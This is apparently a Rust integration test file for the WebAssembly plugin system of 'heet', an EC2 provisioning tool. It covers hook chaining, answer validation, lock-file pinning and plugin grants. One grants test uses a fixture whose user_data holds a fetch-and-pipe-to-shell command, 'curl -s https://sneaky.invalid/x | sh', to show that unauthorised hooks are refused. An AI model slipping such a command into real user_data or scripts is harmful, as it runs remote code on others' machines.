//! The plugin contract through real wasm components: chain semantics for every hook, one
//! deliberately wrong answer per host-side validation rule, heet.lock, the reference plugins
//! on the webapp example (plan snapshots, and its deploy scenario through `heet run`), and
//! `heet plugins new`, and a plugin of the earlier WIT 0.1.0 under today's 0.1.2.

use std::collections::BTreeMap;

use tests::{Project, WEBAPP_PLUGINS, moto, sha256_hex};

/// One role of one instance in a project with a zone; each test adds plugins and config.
const BASE: &str = r#"
[project]
name = "{project}"
domain = "{project}.example.com"
create_zone = true

[defaults]
ami = "ami-12c6146b"

[roles.www]
count = 1
user_data = "base"

[environments.staging]
"#;

fn with(extra: &str) -> String {
    BASE.replace("[defaults]", &format!("{extra}\n[defaults]"))
}

fn plan_json(p: &Project) -> serde_json::Value {
    p.heet(&["plan", "--env", "staging", "--output", "json"])
        .json()
}

/// What the plan will create, by `role[index]`.
fn creates(plan: &serde_json::Value) -> BTreeMap<String, serde_json::Value> {
    plan["plan"]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            assert_eq!(c["action"], "create", "{c}");
            (
                format!("{}[{}]", c["role"].as_str().unwrap(), c["index"]),
                c.clone(),
            )
        })
        .collect()
}

fn chain_config(a: &str, b: &str) -> String {
    format!("[plugins.config.a]\n{a}\n[plugins.config.b]\n{b}\n")
}

#[test]
fn chain_runs_in_order_each_plugin_sees_the_last_answer_and_none_changes_nothing() {
    let p = Project::new(&with(&chain_config("mark = \"a\"", "mark = \"b\"")), &[]);
    p.add_plugin("chain", "a");
    p.add_plugin("chain", "b");
    let default_name = format!("{}-staging-www-01", p.name);

    // By file name: a, then b. Sizing: 1 → 2 → 3 instances.
    let plan = creates(&plan_json(&p));
    assert_eq!(plan.len(), 3, "{plan:?}");
    let first = &plan["www[1]"];
    assert_eq!(first["name"], format!("{default_name}-a-b"));
    assert_eq!(first["tags"]["chain-a"], "saw 0 tags");
    assert_eq!(first["tags"]["chain-b"], "saw 1 tags");
    assert_eq!(first["cnames"], serde_json::json!(["a-www-1", "b-www-1"]));
    assert_eq!(first["user_data"]["sha256"], sha256_hex(b"base|a|b"));

    // `order` puts b first: every hook sees b's answer before a's.
    p.write(
        "heet.toml",
        &with(&format!(
            "[plugins]\norder = [\"b\", \"a\"]\n{}",
            chain_config("mark = \"a\"", "mark = \"b\"")
        )),
    );
    let first = &creates(&plan_json(&p))["www[1]"];
    assert_eq!(first["name"], format!("{default_name}-b-a"));
    assert_eq!(first["tags"]["chain-b"], "saw 0 tags");
    assert_eq!(first["tags"]["chain-a"], "saw 1 tags");
    assert_eq!(first["cnames"], serde_json::json!(["b-www-1", "a-www-1"]));
    assert_eq!(first["user_data"]["sha256"], sha256_hex(b"base|b|a"));

    // `none` from a: the value passes through untouched, for every hook.
    p.write(
        "heet.toml",
        &with(&chain_config(
            "mark = \"a\"\nopinion = false",
            "mark = \"b\"",
        )),
    );
    let plan = creates(&plan_json(&p));
    assert_eq!(plan.len(), 2, "only b sized: {plan:?}");
    let first = &plan["www[1]"];
    assert_eq!(first["name"], format!("{default_name}-b"));
    assert!(first["tags"].get("chain-a").is_none());
    assert_eq!(first["tags"]["chain-b"], "saw 0 tags");
    assert_eq!(first["cnames"], serde_json::json!(["b-www-1"]));
    assert_eq!(first["user_data"]["sha256"], sha256_hex(b"base|b"));
}

#[test]
fn guard_judges_the_final_state_even_when_it_runs_first() {
    let p = Project::new(
        &with(&chain_config("mark = \"a\"\nreport = true", "mark = \"b\"")),
        &[],
    );
    p.add_plugin("chain", "a");
    p.add_plugin("chain", "b");
    let run = p.heet(&["up", "--env", "staging", "--yes"]);
    assert_eq!(run.code(), 3, "{}", run.stderr());
    let expected = format!(
        "plugin a: seen: 3 instance(s); first: name={}-staging-www-01-a-b cnames=a-www-1,b-www-1 user_data=base|a|b tags=chain-a=saw 0 tags,chain-b=saw 1 tags",
        p.name
    );
    assert!(run.stderr().contains(&expected), "{}", run.stderr());
    assert!(moto().live_instances("heet:project", &p.name).is_empty());
}

#[test]
fn cnames_without_a_domain_are_refused() {
    let def = with("[plugins.config.a]\nmark = \"a\"\n").replace("domain = ", "# domain = ");
    let p = Project::new(&def, &[]);
    p.add_plugin("chain", "a");
    let run = p.heet(&["up", "--env", "staging", "--yes"]);
    assert_eq!(run.code(), 1, "{}", run.stderr());
    assert!(
        run.stderr().contains(
            "plugin a: hook cnames: invalid answer: CNAME \"a-www-1\" needs a zone, and the project has no domain"
        ),
        "{}",
        run.stderr()
    );
    assert!(moto().live_instances("heet:project", &p.name).is_empty());
}

/// Runs `up --yes` with the liar telling `lie` to 2 instances of www, and checks heet refuses
/// with `expected` in the error and creates nothing.
fn refused(lie: &str, expected: &str) {
    let def = with(&format!("[plugins.config.liar]\nlie = \"{lie}\"\n"))
        .replace("count = 1", "count = 2");
    let p = Project::new(&def, &["liar"]);
    let run = p.heet(&["up", "--env", "staging", "--yes"]);
    assert_eq!(run.code(), 1, "{lie}: {}", run.stderr());
    assert!(
        run.stderr().contains(expected),
        "{lie}: expected {expected:?} in\n{}",
        run.stderr()
    );
    assert!(
        moto().live_instances("heet:project", &p.name).is_empty(),
        "{lie}: instances were created"
    );
}

macro_rules! validation_rules {
    ($($test:ident: $lie:literal => $expected:literal,)*) => {
        $( #[test] fn $test() { refused($lie, $expected) } )*

        #[test]
        fn every_lie_of_the_fixture_has_a_test() {
            let tested = [$($lie),*];
            let source = std::fs::read_to_string(
                tests::repo_root().join("tests/fixtures/liar/src/lib.rs"),
            )
            .unwrap();
            let listed = source.split("pub const LIES").nth(1).unwrap().split("];").next().unwrap();
            for lie in listed.split('"').skip(1).step_by(2) {
                assert!(tested.contains(&lie), "lie {lie:?} has no test");
            }
        }
    };
}

validation_rules! {
    instance_type_syntax: "instance-type" =>
        "plugin liar: hook sizing: invalid answer: invalid instance type \"M5 XLarge\"",
    count_bound: "count" => "plugin liar: hook sizing: invalid answer: count 501 is more than 500",
    volume_bound: "volume" =>
        "plugin liar: hook sizing: invalid answer: volume of 0 GiB is outside 1..=16384",
    empty_name: "empty-name" => "plugin liar: hook naming: invalid answer: empty name",
    name_longer_than_a_tag_value: "long-name" =>
        "plugin liar: hook naming: invalid answer: value of tag \"Name\" is longer than 256 characters",
    aws_tag_prefix: "aws-tag" =>
        "plugin liar: hook tags: invalid answer: tag key \"aws:cost\": the aws: prefix is reserved by AWS",
    heet_tag_prefix: "heet-tag" =>
        "plugin liar: hook tags: invalid answer: tag key \"heet:env\": the heet: prefix is reserved by heet",
    name_tag_belongs_to_naming: "name-tag" =>
        "plugin liar: hook tags: invalid answer: tag Name belongs to the naming hook",
    tag_key_length: "long-tag-key" => "must be 1 to 128 characters",
    tag_value_length: "long-tag-value" =>
        "plugin liar: hook tags: invalid answer: value of tag \"k\" is longer than 256 characters",
    tag_count: "too-many-tags" =>
        "plugin liar: hook tags: invalid answer: 44 tags, more than the 40 left by heet's own",
    duplicate_tag: "duplicate-tag" =>
        "plugin liar: hook tags: invalid answer: tag \"team\" appears twice",
    dns_label_characters: "dns-label" =>
        "plugin liar: hook cnames: invalid answer: invalid DNS name \"under_score\": label \"under_score\" may hold only letters, digits and '-'",
    dns_label_length: "dns-long-label" => "must be 1 to 63 characters",
    one_cname_one_instance: "same-cname" =>
        "CNAME \"www\" is answered for both www[1] and www[2]: a CNAME points at one instance",
    user_data_size: "user-data" =>
        "plugin liar: hook user-data: invalid answer: user_data is 17408 bytes, more than EC2's limit of 16384",
}

#[test]
fn heet_lock_pins_the_plugin_bytes() {
    let def = with("[plugins.config.naming]\npattern = \"{env}-{role}-n{index:03}\"\n");
    let p = Project::new(&def, &["naming", "tags"]);
    std::fs::remove_file(p.path("heet.lock")).unwrap();

    // No lock: every plugin is unlocked, and nothing runs.
    let run = p.heet(&["up", "--env", "staging", "--yes"]);
    assert_eq!(run.code(), 2, "{}", run.stderr());
    let err = run.stderr();
    assert!(err.contains("heet.lock: 2 plugin(s) do not match the lock; review them, then run `heet plugins lock`"), "{err}");
    assert!(
        err.contains("plugin naming: not in the lock")
            && err.contains("plugin tags: not in the lock"),
        "{err}"
    );

    // `heet plugins lock` pins exactly what the harness computes from the bytes.
    let locked = p.heet(&["plugins", "lock", "--output", "json"]).json();
    let changes: Vec<(&str, &str)> = locked["plugins"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["name"].as_str().unwrap(), c["change"].as_str().unwrap()))
        .collect();
    assert_eq!(changes, [("naming", "added"), ("tags", "added")]);
    let written = std::fs::read_to_string(p.path("heet.lock")).unwrap();
    p.lock();
    let expected = std::fs::read_to_string(p.path("heet.lock")).unwrap();
    let entries = |s: &str| -> Vec<String> {
        s.lines()
            .filter(|l| l.starts_with("sha256") || l.starts_with("[plugins."))
            .map(str::to_owned)
            .collect()
    };
    assert_eq!(entries(&written), entries(&expected));
    assert!(written.starts_with("# heet.lock:"), "{written}");
    let list = p.heet(&["plugins", "list", "--output", "json"]).json();
    assert!(
        list["plugins"]
            .as_array()
            .unwrap()
            .iter()
            .all(|i| i["lock"] == "locked"),
        "{list}"
    );
    p.heet(&["plan", "--env", "staging"]).ok();

    // Different bytes under a locked name (a valid component, just not the reviewed one).
    std::fs::copy(
        tests::plugin_dir().join("chain.wasm"),
        p.path("plugins/tags.wasm"),
    )
    .unwrap();
    let run = p.heet(&["up", "--env", "staging", "--yes"]);
    assert_eq!(run.code(), 2, "{}", run.stderr());
    let actual = sha256_hex(&std::fs::read(p.path("plugins/tags.wasm")).unwrap());
    assert!(
        run.stderr().contains(&format!(
            "plugin tags: sha256 {} differs from the locked",
            &actual[..12]
        )),
        "{}",
        run.stderr()
    );
    assert!(moto().live_instances("heet:project", &p.name).is_empty());
    let list = p.heet(&["plugins", "list", "--output", "json"]).json();
    assert_eq!(list["plugins"][1]["lock"], "differs", "{list}");

    // A locked plugin that is gone is refused too: the lock is the list of what runs.
    std::fs::remove_file(p.path("plugins/tags.wasm")).unwrap();
    let run = p.heet(&["plan", "--env", "staging"]);
    assert_eq!(run.code(), 2, "{}", run.stderr());
    assert!(
        run.stderr()
            .contains("plugin tags: locked, but not in the plugin folder"),
        "{}",
        run.stderr()
    );
    let relocked = p.heet(&["plugins", "lock"]).ok().stdout();
    assert!(
        relocked.contains("- tags\tremoved") && relocked.contains("= naming\tunchanged"),
        "{relocked}"
    );
    p.heet(&["plan", "--env", "staging"]).ok();
}

#[test]
fn a_file_that_is_not_a_component_is_never_locked() {
    let p = Project::new(&with(""), &["naming"]);
    let before = std::fs::read_to_string(p.path("heet.lock")).unwrap();
    std::fs::write(p.path("plugins/junk.wasm"), b"\0asm not really").unwrap();
    let run = p.heet(&["plugins", "lock"]);
    assert_eq!(run.code(), 1, "{}", run.stderr());
    assert!(run.stderr().contains("plugin junk"), "{}", run.stderr());
    assert_eq!(
        std::fs::read_to_string(p.path("heet.lock")).unwrap(),
        before
    );
}

/// The plan of an environment as one line per instance: what the plugins decided.
fn digest(plan: &serde_json::Value) -> String {
    creates(plan)
        .values()
        .map(|c| {
            let tags: Vec<String> = c["tags"]
                .as_object()
                .unwrap()
                .iter()
                .filter(|(k, _)| !k.starts_with("heet:") && *k != "Name")
                .map(|(k, v)| format!("{k}={}", v.as_str().unwrap()))
                .collect();
            format!(
                "{}[{}] {} {} cnames={} tags={{{}}} user_data={}B",
                c["role"].as_str().unwrap(),
                c["index"],
                c["name"].as_str().unwrap(),
                c["instance_type"].as_str().unwrap(),
                c["cnames"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|n| n.as_str().unwrap())
                    .collect::<Vec<_>>()
                    .join(","),
                tags.join(", "),
                c["user_data"]["bytes"],
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn webapp_staging_and_production_differ_only_by_what_the_plugins_decide() {
    let def =
        std::fs::read_to_string(tests::repo_root().join("examples/webapp/heet.toml")).unwrap();
    let p = Project::new(&def, &WEBAPP_PLUGINS);
    let plan = |env: &str| p.heet(&["plan", "--env", env, "--output", "json"]).json();
    insta::assert_snapshot!("webapp_staging", digest(&plan("staging")));
    insta::assert_snapshot!("webapp_production", digest(&plan("production")));

    // Its drawing: production's sizes and names, as the plugins decide them.
    let graph = p
        .heet(&["graph", "--env", "production", "--format", "mermaid"])
        .ok()
        .stdout();
    assert!(
        graph.contains("[\"frontend<br/>8 × m5.xlarge\"]"),
        "{graph}"
    );
    assert!(
        graph.contains("[\"db<br/>2 × r5.large<br/>volume 500 GiB\"]"),
        "{graph}"
    );
    assert!(
        graph.contains("[\"production-frontend-08.webapp.example.com\"]"),
        "{graph}"
    );

    // Through moto: the cloud-init document carries the instance's facts.
    p.heet(&["up", "--env", "staging", "--yes"]).ok();
    let live = moto().live_instances("heet:project", "webapp");
    let db = live.iter().find(|i| i.tags["heet:role"] == "db").unwrap();
    let user_data = moto().user_data(&db.id);
    let doc: serde_json::Value =
        serde_json::from_str(user_data.strip_prefix("#cloud-config\n").unwrap()).unwrap();
    let facts: serde_json::Value =
        serde_json::from_str(doc["write_files"][0]["content"].as_str().unwrap()).unwrap();
    assert_eq!(facts["role"], "db");
    assert_eq!(facts["env"], "staging");
    assert_eq!(facts["project"], "webapp");
    assert_eq!(
        doc["runcmd"][0], "/var/lib/heet/user-data",
        "the definition's script runs"
    );
    assert_eq!(db.tags["config-group"], "staging--db");
    // The cname plugin's answers, applied in the zone heet created.
    let zone = moto().zone_id("webapp.example.com").unwrap();
    let records: Vec<String> = moto().cnames(&zone).into_keys().collect();
    assert_eq!(
        records,
        [
            "staging-db-01.webapp.example.com",
            "staging-frontend-01.webapp.example.com"
        ]
    );

    // Knitting's deploy: each step to its role's instances by id, in the scenario's order
    // (an ALL step one command per role), with the task's script.
    let report = p
        .heet(&["run", "deploy", "--env", "staging", "--output", "json"])
        .json();
    assert_eq!(report["status"], "succeeded", "{report}");
    let frontend = live
        .iter()
        .find(|i| i.tags["heet:role"] == "frontend")
        .unwrap();
    let steps = [
        (&frontend.id, "touch /srv/webapp/maintenance"),
        (&db.id, "apt-get upgrade -y -q"),
        (&frontend.id, "apt-get upgrade -y -q"),
        (&db.id, "./manage.py migrate --noinput"),
        (&frontend.id, "./manage.py collectstatic --noinput"),
        (&frontend.id, "systemctl restart webapp"),
        (&frontend.id, "rm -f /srv/webapp/maintenance"),
    ];
    let sent = p.aws.sent_commands();
    assert_eq!(sent.len(), steps.len(), "{sent:#?}");
    for (c, (id, script)) in sent.iter().zip(steps) {
        assert_eq!(c.instance_ids, std::slice::from_ref(id), "{c:#?}");
        assert!(
            c.commands.concat().contains(script),
            "{c:#?} runs no {script}"
        );
    }
    assert_eq!(sent[5].max_concurrency.as_deref(), Some("50%"));
    // The task-env plugin's staging variables on every command; the lock is production's.
    for c in &sent {
        // A task with a user has its script quoted whole: unquote it first.
        let script = c.commands.join("\n").replace("'\\''", "'");
        assert!(
            script.contains("export DJANGO_SETTINGS_MODULE='webapp.settings'\n"),
            "{c:#?}"
        );
        assert!(!c.commands.concat().contains("flock"), "{c:#?}");
    }
    for i in moto().live_instances("heet:project", "webapp") {
        assert!(i.tags.contains_key("heet:scenario/deploy"), "{}", i.id);
    }
    p.heet(&["down", "--env", "staging", "--yes"]).ok();
    assert!(moto().live_instances("heet:project", "webapp").is_empty());
    assert!(moto().cnames(&zone).is_empty());
}

#[test]
fn plugins_new_scaffolds_a_plugin_that_tests_builds_and_denies() {
    // A fixed folder, so its builds stay warm from one run to the next.
    let root = tests::target_dir().join("heet-scaffold-test");
    let _ = std::fs::remove_dir_all(&root);
    std::fs::create_dir_all(&root).unwrap();
    let crate_dir = root.join("no-big-boxes");
    let p = Project::new(
        &with("[plugins.config.no-big-boxes]\nmax_instances = 1\n")
            .replace("count = 1", "count = 2"),
        &[],
    );
    p.heet(&[
        "plugins",
        "new",
        "no-big-boxes",
        "--path",
        crate_dir.to_str().unwrap(),
    ])
    .ok();
    let again = p.heet(&[
        "plugins",
        "new",
        "no-big-boxes",
        "--path",
        crate_dir.to_str().unwrap(),
    ]);
    assert_ne!(again.code(), 0, "never overwrites");

    let test =
        std::process::Command::new(std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into()))
            .args(["test", "--quiet", "--manifest-path"])
            .arg(crate_dir.join("Cargo.toml"))
            .env("CARGO_TARGET_DIR", root.join("target"))
            .output()
            .unwrap();
    let out = String::from_utf8_lossy(&test.stdout);
    assert!(
        test.status.success(),
        "{out}\n{}",
        String::from_utf8_lossy(&test.stderr)
    );
    assert!(out.contains("2 passed"), "{out}");

    // Its fixture passes in the real sandbox, as the JavaScript and Python scaffolds' do.
    let fixture = p.heet_with(
        &[
            "plugins",
            "test",
            "--manifest-path",
            crate_dir.join("Cargo.toml").to_str().unwrap(),
        ],
        &[("CARGO_TARGET_DIR", root.join("target").to_str().unwrap())],
    );
    assert!(
        fixture
            .ok()
            .stdout()
            .contains("test result: ok. 3 passed; 0 failed"),
        "{}",
        fixture.stdout()
    );

    let build = p.heet_with(
        &[
            "plugins",
            "build",
            "--out",
            p.path("plugins").to_str().unwrap(),
            "--manifest-path",
            crate_dir.join("Cargo.toml").to_str().unwrap(),
        ],
        &[("CARGO_TARGET_DIR", root.join("target").to_str().unwrap())],
    );
    build.ok();
    p.heet(&["plugins", "lock"]).ok();
    let run = p.heet(&["plan", "--env", "staging"]);
    assert_eq!(run.code(), 3, "{}", run.stderr());
    assert!(
        run.stderr().contains("plugin no-big-boxes: max-instances: staging asks for 2 instances, more than the 1 allowed"),
        "{}",
        run.stderr()
    );
}

#[test]
fn a_reference_plugin_refuses_bad_config_at_load_with_its_place_in_heet_toml() {
    let def = std::fs::read_to_string(tests::repo_root().join("examples/webapp/heet.toml"))
        .unwrap()
        .replace("instance_type = \"r5.large\"", "instance_type = \"huge\"");
    let p = Project::new(&def, &WEBAPP_PLUGINS);
    let run = p.heet(&["plan", "--env", "staging"]);
    assert_eq!(run.code(), 2, "{}", run.stderr());
    // The table heet.toml gives the plugin, with the place of the table the error is in.
    assert!(
        run.stderr().contains(
            "heet.toml:20:17: plugins.config.sizing: plugin sizing rejected its config: production.db: instance_type \"huge\" is not family.size"
        ),
        "{}",
        run.stderr()
    );
}

#[test]
fn a_plugin_exporting_a_hook_it_was_not_granted_is_refused_before_it_runs() {
    // A naming plugin that also puts a script into user_data, granted naming only.
    let p = Project::new(
        &with("[plugins.grants.sneaky]\nhooks = [\"naming\"]\n"),
        &[],
    );
    p.add_plugin("sneaky", "sneaky");
    let run = p.heet(&["plan", "--env", "staging"]);
    assert_eq!(run.code(), 2, "{}", run.stderr());
    assert!(
        run.stderr().contains(
            "heet.toml:7:17: plugins.grants.sneaky: plugin sneaky exports user-data, which its grant (hooks = [\"naming\"]) does not allow; it was not loaded"
        ),
        "{}",
        run.stderr()
    );
    let list = p.heet(&["plugins", "list"]);
    assert!(
        list.stdout()
            .contains("grant: naming roles=* envs=* (refused: exports user-data)"),
        "{}",
        list.stdout()
    );

    // Granted both hooks, it loads and answers both.
    p.write(
        "heet.toml",
        &with("[plugins.grants.sneaky]\nhooks = [\"naming\", \"user-data\"]\n"),
    );
    let first = &creates(&plan_json(&p))["www[1]"];
    assert_eq!(first["name"], "staging-www-1");
    assert_eq!(
        first["user_data"]["sha256"],
        sha256_hex(b"base\ncurl -s https://sneaky.invalid/x | sh")
    );

    // With require_grants, a plugin in the folder without a grant is refused.
    p.add_plugin("naming", "naming");
    p.write(
        "heet.toml",
        &with("[plugins]\nrequire_grants = true\n[plugins.grants.sneaky]\nhooks = [\"naming\", \"user-data\"]\n"),
    );
    let run = p.heet(&["plan", "--env", "staging"]);
    assert_eq!(run.code(), 2, "{}", run.stderr());
    assert!(
        run.stderr().contains(
            "heet.toml:8:18: plugins.require_grants: plugin naming has no grant; add [plugins.grants.naming] with the hooks it may answer (it exports configure, naming)"
        ),
        "{}",
        run.stderr()
    );

    // A grant names a plugin that is not in the folder.
    p.write(
        "heet.toml",
        &with("[plugins.grants.sneaky]\nhooks = [\"naming\", \"user-data\"]\n[plugins.grants.ghost]\nhooks = [\"tags\"]\n"),
    );
    let run = p.heet(&["plan", "--env", "staging"]);
    assert_eq!(run.code(), 2, "{}", run.stderr());
    assert!(
        run.stderr()
            .contains("heet.toml:9:17: plugins.grants.ghost: no plugin \"ghost\" in"),
        "{}",
        run.stderr()
    );
}

#[test]
fn a_grant_limited_to_a_role_or_an_environment_is_never_called_outside_it() {
    let def = |grants: &str, report: bool| {
        with(&format!(
            "[plugins.config.a]\nmark = \"a\"\nreport = {report}\n{grants}"
        ))
        .replace(
            "[environments.staging]",
            "[roles.db]\ncount = 1\n\n[environments.staging]\n[environments.production]",
        )
    };
    const ALL_OF_CHAIN: &str =
        r#"hooks = ["sizing", "naming", "tags", "cnames", "user-data", "guard", "tasks"]"#;
    let www_only = format!(
        "[plugins.grants.a]\n{ALL_OF_CHAIN}\nroles = [\"www\"]\n[plugins.grants.tags]\nhooks = [\"tags\"]\nroles = [\"www\"]\n"
    );
    let p = Project::new(&def(&www_only, false), &["tags"]);
    p.add_plugin("chain", "a");

    // Every hook of `a` leaves a mark when called: www has them all (sizing 1 → 2), db none.
    let plan = creates(&plan_json(&p));
    assert_eq!(
        plan.keys().collect::<Vec<_>>(),
        ["db[1]", "www[1]", "www[2]"],
        "{plan:?}"
    );
    let (www, db) = (&plan["www[1]"], &plan["db[1]"]);
    assert_eq!(www["name"], format!("{}-staging-www-01-a", p.name));
    assert_eq!(www["tags"]["chain-a"], "saw 0 tags");
    assert_eq!(www["tags"]["config-group"], "staging--www");
    assert_eq!(www["cnames"], serde_json::json!(["a-www-1"]));
    assert_eq!(www["user_data"]["sha256"], sha256_hex(b"base|a"));
    assert_eq!(db["name"], format!("{}-staging-db-01", p.name));
    let db_tags = db["tags"].as_object().unwrap();
    assert!(
        db_tags
            .keys()
            .all(|k| k.starts_with("heet:") || k == "Name"),
        "neither plugin answered for db: {db_tags:?}"
    );
    assert_eq!(db["cnames"], serde_json::json!([]));

    // Its guard sees only www's instances, though the plan has db's too.
    p.write("heet.toml", &def(&www_only, true));
    let run = p.heet(&["plan", "--env", "staging"]);
    assert_eq!(run.code(), 3, "{}", run.stderr());
    assert!(
        run.stderr()
            .contains("plugin a: seen: 2 instance(s); first: name="),
        "{}",
        run.stderr()
    );

    // Granted production only, it is not called in staging at all, guard included.
    let production = format!("[plugins.grants.a]\n{ALL_OF_CHAIN}\nenvs = [\"production\"]\n");
    p.write("heet.toml", &def(&production, true));
    let plan = creates(&plan_json(&p));
    assert_eq!(plan.len(), 2, "no sizing: {plan:?}");
    assert!(plan.values().all(|c| c["tags"].get("chain-a").is_none()));
    let list = p.heet(&["plugins", "list"]);
    assert!(
        list.stdout().contains(
            "grant: sizing,naming,tags,cnames,user-data,guard,tasks roles=* envs=production"
        ),
        "{}",
        list.stdout()
    );
}

#[test]
fn a_plugin_built_against_wit_0_1_0_still_loads_and_answers() {
    // v010 is built from the frozen 0.1.0 WIT, before the tasks hook: its imports and exports
    // are `@0.1.0`, linked semver-compatibly to this heet's.
    let p = Project::new(BASE, &["v010"]);
    let list = p.heet(&["plugins", "list", "--output", "json"]).json();
    let v010 = &list["plugins"][0];
    assert_eq!(v010["wit"], serde_json::json!(["0.1.0"]), "{list}");
    assert_eq!(v010["hooks"], serde_json::json!(["naming"]), "{list}");
    let plan = creates(&plan_json(&p));
    assert_eq!(
        plan["www[1]"]["name"],
        format!("{}-staging-www-01-v010", p.name)
    );
}

#[test]
fn plugins_test_runs_tasks_cases_with_heets_checks_of_the_answer() {
    let dir = tempfile::tempdir().unwrap();
    let fixture = dir.path().join("tasks.toml");
    std::fs::write(
        &fixture,
        r#"
config = { mark = "a" }

[[case]]
name = "a migration in a scenario"
hook = "tasks"
role = "db"
task = "migrate"
scenario = "deploy"
current = { script = "./migrate", env = { APP = "shop" } }
expect = { answer = { script = "./migrate\n# a deploy", env = { APP = "shop", CHAIN_A = "db.migrate in staging saw 1 var(s)" } } }

[[case]]
name = "no opinion"
hook = "tasks"
config = { opinion = false }
expect = { none = true }

[[case]]
name = "a variable of heet's is refused"
hook = "tasks"
config = { mark = "a", task_var = "HEET_ROLE" }
expect = { none = true }
"#,
    )
    .unwrap();
    let run = tests::heet_in(
        dir.path(),
        &[
            "plugins",
            "test",
            fixture.to_str().unwrap(),
            "--component",
            tests::plugin_dir().join("chain.wasm").to_str().unwrap(),
        ],
    );
    assert_eq!(run.code(), 1, "{}\n{}", run.stdout(), run.stderr());
    let out = run.stdout();
    assert!(
        out.contains("a migration in a scenario ... ok")
            && out.contains("no opinion ... ok")
            && out.contains("a variable of heet's is refused ... FAILED")
            && out.contains("heet refuses its answer: variable HEET_ROLE is heet's"),
        "{out}"
    );
}
